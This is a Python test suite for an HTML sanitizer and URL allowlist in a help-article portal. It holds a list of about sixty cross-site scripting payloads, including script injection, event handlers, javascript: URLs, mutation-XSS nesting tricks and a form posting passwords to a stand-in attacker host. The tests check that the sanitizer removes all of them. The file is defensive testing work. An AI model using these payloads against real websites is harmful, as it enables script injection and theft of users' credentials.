"""What an attacker writes into an article or a preview is inert on the page."""

from __future__ import annotations

import threading
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from kbportal.markup.allowlist import TAGS, allows, attributes_of, is_safe_url
from kbportal.markup.sanitize import clean, tidy

PAYLOADS = r"""
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/src=data:,alert(1)>
<img src=x onerror=alert(1)>
<img src=javascript:alert(1)>
<IMG SRC="jav&#x09;ascript:alert(1);">
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<img ''"><script>alert(1)</script>">
<img src="x` `<script>alert(1)</script>"` `>
<img src=x:alert(alt) onerror=eval(src) alt=0>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><img src=x onerror=alert(1)></template>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><a title="</title><img src=x onerror=alert(1)>">
<style>@import 'https://evil.example/x.css';</style>
<div style="background:url(javascript:alert(1))">x</div>
<p style="position:fixed;inset:0">x</p>
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java\nscript:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="JaVaScRiPt&colon;alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="//evil.example">x</a>
<a href="/\\evil.example">x</a>
<a href="https://bank.example@evil.example/">x</a>
<a href="https://evil.example/\u202egnp.exe">x</a>
<a href=# onclick=alert(1)>x</a>
<a target=_blank href=https://evil.example>x</a>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel=stylesheet href=https://evil.example/x.css>
<form action="https://evil.example"><input name=password></form>
<button formaction=javascript:alert(1)>x</button>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<isindex action=javascript:alert(1)>
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><img src=x onerror=alert(1)>
<x onclick=alert(1)>x</x>
<p id="constructor" class="x admonition" onmouseover=alert(1)>x</p>
<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>
<a href="https://e.example" rel="opener">x</a>
<pre>\n\n\n\n<b>x</pre>
<<img src=x onerror=alert(1)//<
""".strip().split("\n")
PAYLOADS = [one.replace(r"\n", "\n").replace(r"\u202e", "\u202e") for one in PAYLOADS]


class Inspector(HTMLParser):
    """Collects whatever the allowlist does not know."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.strangers: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.strangers.append(tag)
        self.strangers += [
            f"{tag} {name}={value}" for name, value in attrs if not allows(tag, name, value or "")
        ]

    def handle_comment(self, data: str) -> None:
        self.strangers.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.strangers.append(f"declaration {decl}")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_known_attack_leaves_nothing_but_allowed_elements(payload: str) -> None:
    assert Inspector(clean(payload)).strangers == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_handler_no_script_and_no_foreign_scheme_survives(payload: str) -> None:
    cleaned = clean(payload).lower()

    assert "<script" not in cleaned
    assert 'href="javascript' not in cleaned.replace(" ", "")
    assert not any(f" {name}=" in cleaned.replace("&lt;", "") and f"<{name}" in cleaned
                   for name in ("onerror", "onload", "onclick"))  # fmt: skip


FRAGMENTS = st.lists(
    st.sampled_from(
        [*PAYLOADS, *(f"<{tag}>" for tag in sorted(TAGS)), *(f"</{tag}>" for tag in sorted(TAGS)),
         "<pre>\n\n", "text", "&lt;", "&amp;lt;", "\n", "<a href=/x>",
         '<div class="admonition note">',
         '<img alt="<p>" src=/x.png>', "<table><a>", "<select>", "<svg><p>", "\0", "\r\n"]
    ) | st.text(max_size=20),
    max_size=12,
).map("".join)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(FRAGMENTS)
@example("<pre>\n\n\n\n\nx</pre>")
@example("<a><table><a></table><p></a></p>")
def test_cleaned_html_is_stable_under_both_walls(html: str) -> None:
    cleaned = clean(html)
    alone = nh3.clean(
        cleaned,
        tags=set(TAGS),
        attributes={tag: set(attributes_of(tag)) for tag in TAGS},
        link_rel=None,
        url_schemes={"http", "https", "mailto", "tel"},
    )

    assert alone == cleaned
    assert clean(cleaned) == cleaned
    assert Inspector(cleaned).strangers == []


@settings(max_examples=200, deadline=None)
@given(FRAGMENTS)
def test_cleaning_what_was_tidied_is_as_safe_as_cleaning_alone(html: str) -> None:
    assert Inspector(clean(tidy(html))).strangers == []


def test_useful_html_of_help_articles_is_kept() -> None:
    html = (
        '<h2 id="a">A</h2><p>Press <kbd>Ctrl</kbd><br><a name="x"></a></p>'
        '<table><tbody><tr><td align="right" colspan="2">1</td></tr></tbody></table>'
        '<details><summary>More</summary>text</details><img src="/static/a.png" alt="A">'
        '<div class="admonition warning"><p class="admonition-title">Mind</p></div>'
    )

    assert clean(html) == html


@pytest.mark.parametrize(
    "url",
    ["https://e.example/a?b=c#d", "http://e.example", "mailto:help@shop.example", "tel:+421900",
     "/en/articles/x", "#top", "/static/ä.png", "HTTPS://E.example/"],
)  # fmt: skip
def test_an_ordinary_address_is_safe(url: str) -> None:
    assert is_safe_url(url)


@pytest.mark.parametrize(
    "url",
    ["", "x.html", "//e.example", "///e.example", "/\\e.example", "\\\\e.example",
     "https:e.example",
     "https://", "https:///x", "https://u@e.example", "https://u:p@e.example/", "ftp://e.example",
     "file:///etc/passwd", "javascript:alert(1)", "JAVASCRIPT:x", "java\nscript:x", " https://e.x",
     "https://e.example/\u200b", "https://e.example/\u202e", "data:text/html,x", "https://[e.example",
     "/\t/evil.example", "blob:https://e.example/1"],
)  # fmt: skip
def test_any_other_address_is_not(url: str) -> None:
    assert not is_safe_url(url)


def test_many_threads_may_clean_at_once() -> None:
    outcomes: list[bool] = []

    def work(n: int) -> None:
        html = f"<p onclick=x>{n}</p>" * 20
        outcomes.append(all(clean(html) == f"<p>{n}</p>" * 20 for _ in range(10)))

    threads = [threading.Thread(target=work, args=(n,)) for n in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    assert outcomes == [True] * 6
